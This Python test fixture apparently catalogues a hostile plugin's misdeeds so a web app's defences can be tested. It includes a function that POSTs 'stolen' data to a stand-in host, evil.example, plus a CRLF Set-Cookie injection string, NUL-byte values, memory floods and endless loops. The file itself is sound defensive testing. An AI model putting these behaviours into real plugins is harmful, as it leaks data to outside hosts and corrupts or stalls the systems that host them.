"""What a hostile plugin does: each misdeed, as it is done by any call it can be done by."""

from __future__ import annotations

import signal
import time
from collections.abc import Iterator, Mapping
from contextlib import suppress
from dataclasses import replace
from typing import Any, NoReturn

from tests.hostile.plugin import Asked, Deed
from webapp.bounded import OutOfTime
from webapp.sdk import (
    CensusPage,
    ChangePage,
    ContactPage,
    CustomerDetail,
    Gone,
    Organization,
    Provider,
    ProviderError,
    RateLimited,
    RetryLater,
)

FOREIGN = "https://evil.example/take"
SOON = 0.02
_IDS = ("id", "customer_id", "name")


class Unspeakable(RetryLater):
    """An error whose own text fails."""

    def __init__(self) -> None:
        super().__init__("")

    def __str__(self) -> NoReturn:
        raise ValueError


class Chatty(str):
    """A text that is another one each time it is asked."""

    __slots__ = ()

    def __eq__(self, other: object) -> bool:
        return True

    __hash__ = str.__hash__


class Endless(tuple[Any, ...]):
    """A tuple that tells its entries for ever."""

    __slots__ = ()

    def __iter__(self) -> Iterator[Any]:
        while True:
            yield from super().__iter__()


def raising(*errors: BaseException) -> list[Deed]:
    """Raise each of some errors."""

    def deed(error: BaseException) -> Deed:
        def raise_it(asked: Asked) -> NoReturn:
            raise error

        return raise_it

    return [deed(error) for error in errors]


def recurse(asked: Asked) -> Any:
    """Go deeper until the stack is full."""
    return recurse(asked)


def tell(*answers: object) -> list[Deed]:
    """Return something else than was asked for."""
    return [lambda asked, told=told: told for told in answers]  # type: ignore[misc]


def call_abroad(asked: Asked) -> Any:
    """Call a host that is not the provider's, keep the refusal to oneself, and answer honestly."""
    assert asked.account is not None
    with suppress(ProviderError):
        asked.account.call("POST", FOREIGN, json={"stolen": True})
    return asked.honest()


def loop(asked: Asked) -> NoReturn:
    """Go on for ever; a worker's time is up soon."""
    if asked.account is None:
        loop_on(asked)
    signal.signal(signal.SIGALRM, _time_is_up)
    signal.setitimer(signal.ITIMER_REAL, SOON)
    loop_on(asked)


def loop_on(asked: Asked) -> NoReturn:
    """Go on for ever, deaf to whatever is an ``Exception``."""
    while True:
        with suppress(Exception):
            time.sleep(0.001)


def _time_is_up(number: int, frame: object) -> NoReturn:
    raise OutOfTime


def flood(asked: Asked) -> Any:
    """Tell far more than anybody can hold, honest entries told again and again."""
    told = asked.honest()
    if isinstance(told, Provider):
        return replace(told, guide=("Wait.",) * 6_000)
    if isinstance(told, ChangePage | CensusPage):
        return replace(told, customers=told.customers * 100_000)
    if isinstance(told, ContactPage | CustomerDetail):
        return replace(told, contacts=told.contacts * 100_000)
    return _flood(told)


def _flood(told: Any) -> Any:
    if isinstance(told, Mapping):
        return {f"{number}": value for number in range(6_000) for value in told.values()}
    if isinstance(told, list):
        return told * 6_000
    if isinstance(told, str):
        return told + "x" * 1_000_000
    return replace(told, **{name: "x" * 1_000_000 for name in ("code", "version") if hasattr(told, name)})


def endless(asked: Asked) -> Any:
    """Tell a collection that never ends."""
    told = asked.honest()
    if isinstance(told, Provider):
        return replace(told, guide=Endless(("Wait.",)))
    if isinstance(told, ChangePage | CensusPage):
        return replace(told, customers=Endless(told.customers))
    if isinstance(told, ContactPage | CustomerDetail):
        return replace(told, contacts=Endless(told.contacts))
    return (each for each in iter(lambda: told, None))


def with_nul(asked: Asked) -> Any:
    """Tell texts no database can hold."""
    told = asked.honest()
    if isinstance(told, Provider):
        return replace(told, label="\x00")
    if isinstance(told, ChangePage | CensusPage):
        return replace(told, customers=tuple(replace(each, version="\x00") for each in told.customers))
    if isinstance(told, ContactPage | CustomerDetail):
        return replace(told, contacts=tuple(replace(each, version="\ud800") for each in told.contacts))
    if isinstance(told, Mapping):
        return dict.fromkeys(["\x00"], next(iter(told.values())))
    if isinstance(told, list):
        return [replace(each, **{"label" if hasattr(each, "label") else "name": "\x00"}) for each in told]
    if isinstance(told, str):
        return f"{told}\r\nSet-Cookie: a=b\x00"
    return replace(told, **{name: "\x00" for name in ("code", "version") if hasattr(told, name)})


def lying(**parts: object) -> Deed:
    """Tell records with other values in some of their fields, the second where there are two."""

    def lie(asked: Asked) -> Any:
        told = asked.honest()
        for rows in ("customers", "contacts"):
            if hasattr(told, rows):
                *before, last = getattr(told, rows)
                return replace(told, **{rows: (*before, _with(last, parts))})
        if isinstance(told, list):
            return [Organization(**{"id": "1", "name": "A", **parts})]  # type: ignore[arg-type]
        return _with(told, parts)

    return lie


def _with(record: Any, parts: Mapping[str, object]) -> Any:
    return replace(record, **{name: value for name, value in parts.items() if hasattr(record, name)})


def other_customer(asked: Asked) -> Any:
    """Tell of another customer than was asked for."""
    told = asked.honest()
    if isinstance(told, CustomerDetail):
        return replace(told, customer=replace(told.customer, id="another"))
    return _with(told, {"customer_id": "another"} if hasattr(told, "customer_id") else {"id": "another"})


def twice(asked: Asked) -> Any:
    """Tell the same thing twice in one answer."""
    told = asked.honest()
    if isinstance(told, Provider):
        return replace(told, regions=told.regions * 2)
    if isinstance(told, ChangePage | CensusPage):
        return replace(told, customers=told.customers * 2)
    if isinstance(told, ContactPage):
        return replace(told, contacts=told.contacts * 2)
    if isinstance(told, CustomerDetail):
        return replace(told, contacts=told.contacts + told.contacts)
    return list(told) * 2


DEEDS: Mapping[str, list[Deed]] = {
    "raises": raising(KeyError("jane@example.com"), type("A\u202e" * 900, (Exception,), {})()),
    "ends the process": raising(SystemExit(0), GeneratorExit()),
    "exhausts memory or stack": [*raising(MemoryError()), recurse],
    "raises nonsense of the SDK": raising(
        ProviderError("neither"),
        Unspeakable(),
        RetryLater("soon", after=float("nan")),
        RetryLater("soon", after=-1),
        RateLimited("much", scope="moon"),
        Gone("\x00"),
        Gone("x" * 100_000),
    ),
    "returns nothing": tell(None),
    "returns another type": tell(7, object(), b"x", [object()]),
    "returns texts nobody can keep": [with_nul],
    "floods": [flood],
    "returns without end": [endless],
    "tells of another record": [other_customer],
    "tells a record twice": [twice],
    "ids that are numbers": [lying(id=7, customer_id=7, name=7)],
    "ids that are blank or endless": [lying(**dict.fromkeys(_IDS, text)) for text in ("", " ", "x" * 300)],
    "ids that change": [lying(**dict.fromkeys(_IDS, Chatty("1")))],
    "calls foreign hosts": [call_abroad],
    "never returns": [loop],
}
"""Each misdeed in its variants."""
